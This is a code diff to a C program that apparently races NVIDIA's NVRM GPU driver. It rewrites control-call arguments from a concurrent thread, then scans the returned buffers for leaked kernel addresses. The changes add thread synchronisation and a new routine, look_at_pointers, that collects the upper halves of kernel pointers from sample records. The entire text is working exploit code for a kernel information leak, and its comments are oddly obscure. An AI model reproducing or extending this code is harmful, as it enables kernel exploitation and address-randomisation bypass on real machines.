@@ -13,6 +13,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <unistd.h>
 
 #include "core/nvrm.h"
 #include "scene.h"
@@ -95,6 +96,8 @@ static int watch_buffer(void *arg)
 	reader.leave = 0;
 	reader.seen = w;
 	pthread_create(&thread, NULL, read_all, NULL);
+	while (!*(volatile u32 *)&w->passes)
+		usleep(1000);
 	for (i = 0; i < w->loops; i++) {
 		memcpy(params, fresh, row->size);
 		if (rm_control(gpu_client(), gpu_object(row->cmd), row->cmd,
@@ -138,6 +141,7 @@ static void racing_reader(void)
 
 /* Ten samples of the largest kind, and any list of this little scene. */
 #define BUFFER_USED 8192
+#define SAMPLES_ASKED 10
 #define BUFFER_STEP 0x10000
 
 /* What the argument block is made to say: object, cmd and size belong
@@ -196,7 +200,7 @@ static void add_guise(u32 row)
 
 /*
  * A question that is one for all: idType or count at 0, class or bytes of
- * samples at 4 (8320: ten samples), and at 8 one's own number to ask about.
+ * samples at 4 (8320: SAMPLES_ASKED at least), and at 8 one's own number.
  */
 static void compose_all(u8 *buffer)
 {
@@ -217,12 +221,27 @@ static void look(struct rewritten *w, const u8 *buffer)
 
 	for (off = 8; off + 4 <= BUFFER_USED; off += 4) {
 		value = mpu_get32(buffer, off);
-		if (value >= 0xffff8000 && value < 0xffffd000)
-			w->foreign = value;	/* half of a kernel address */
 		for (i = 0; i < 8 && w->numbers[i]; i++)
 			if (value == w->numbers[i] || ~value == w->numbers[i])
 				w->foreign = value;
 	}
+}
+
+/* Kernel addresses, where samples have them: the upper half shows. */
+static void look_at_pointers(struct rewritten *w, const u8 *buffer)
+{
+	const struct mpu_row *row = &mpu_rows[w->samples];
+	u32 i, f, value;
+
+	if (w->samples == MPU_ROWS || row->pointer == MPU_NO_OFFSET)
+		return;
+	for (i = 0; i < SAMPLES_ASKED; i++)
+		for (f = 0; f < row->fields; f++) {
+			value = mpu_get32(buffer, pid_offset(row, i, f) +
+						  row->pointer + 4);
+			if (value >> 16 == 0xffff)
+				w->foreign = value;
+		}
 }
 
 /* Amounts, where nothing but PID_INFO and the echo write: at offset 32. */
@@ -292,6 +311,7 @@ static int rewrite_arguments(void *arg)
 		w->answered += writer.arg.status == NV_OK;
 		for (b = 0; b < 2; b++) {
 			look(w, writer.buffer[b]);
+			look_at_pointers(w, writer.buffer[b]);
 			if (w->bytes)
 				look_at_amount(w, writer.buffer[b]);
 		}
